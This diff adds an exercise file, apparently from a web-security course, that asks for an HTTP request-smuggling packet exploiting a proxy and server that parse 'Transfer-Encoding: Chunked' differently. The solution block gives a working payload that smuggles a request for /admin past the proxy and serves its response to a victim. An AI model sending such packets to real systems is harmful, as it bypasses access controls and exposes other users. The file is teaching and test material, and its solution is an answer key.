@@ -1,0 +1,28 @@
+"""★★★ smuggling-packet: find the packet with two ends.
+
+Given: a proxy and a server behind it. Both know chunks, and both let chunks go before a length, as
+RFC 9112 §6.3 wants. They differ in one line. Look at them in a notebook cell:
+
+    show("workbench.exercises.chapter03.requests_in",
+         "workbench.exercises.chapter03.is_chunked_for_the_front",
+         "workbench.exercises.chapter03.is_chunked_for_the_back")
+
+The proxy lets nobody ask for ``/admin``, and sends everybody's requests over one connection.
+
+Write ``packet()``. It returns bytes that are one whole request for ``/posts`` to the proxy; the
+server, when a victim's ``GET /mine`` has come behind it, sees ``/posts`` first and then ``/admin``.
+So the answer that the victim gets is the one for ``/admin``.
+
+The check shows your packet to both, and then to the engine of this course.
+"""
+
+from __future__ import annotations
+
+
+def packet() -> bytes:
+    """Return a request that ends in two places."""
+    ### BEGIN SOLUTION
+    body = b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: board.example\r\nX: "
+    head = b"POST /posts HTTP/1.1\r\nHost: board.example\r\nTransfer-Encoding: Chunked\r\n"
+    return head + b"Content-Length: %d\r\n\r\n" % len(body) + body
+    ### END SOLUTION
